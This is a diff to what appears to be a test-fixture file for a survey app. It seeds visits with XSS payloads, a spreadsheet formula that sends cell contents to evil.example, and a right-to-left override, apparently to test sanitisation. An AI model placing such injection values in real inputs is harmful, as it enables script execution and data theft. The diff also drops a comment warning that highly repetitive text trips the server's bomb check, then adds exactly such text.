@@ -130,8 +130,7 @@ async function fill(lang, { wang, zhang, console_, scope, zhangId, folder }) {
   wang.visit('needs_survey', survey(`${L}-502`, '2', 'facility svc', '5号楼前的单元门禁常常关不上。', 'gate.jpg'))
   wang.visit('needs_survey', survey(`${L}-503`, '4', 'facility env', '垃圾桶旁边味道大。'))
   const long = join(folder, `${lang}.long`)
-  // Not one word again and again: that would pack more than a hundredfold, which the server takes for a bomb.
-  writeFileSync(long, Array.from({ length: 40_000 }, (_, i) => String.fromCodePoint(0x4e00 + ((i * 7919) % 20_000))).join(''))
+  writeFileSync(long, '居民'.repeat(20_000))
   const bad = `<img src=x onerror="window.__hacked=1"> ${lang}`
   zhang.visit('visit', [['door', bad], ['people', '2'], ['remark', { text: long }], ['need', 'light']])
   zhang.visit('visit', [['door', `${lang}-formula`], ['people', '1'], ['remark', '=HYPERLINK("http://evil.example/"&A1,"x") \u202e午上\u202c <script>window.__hacked=1</script>']])
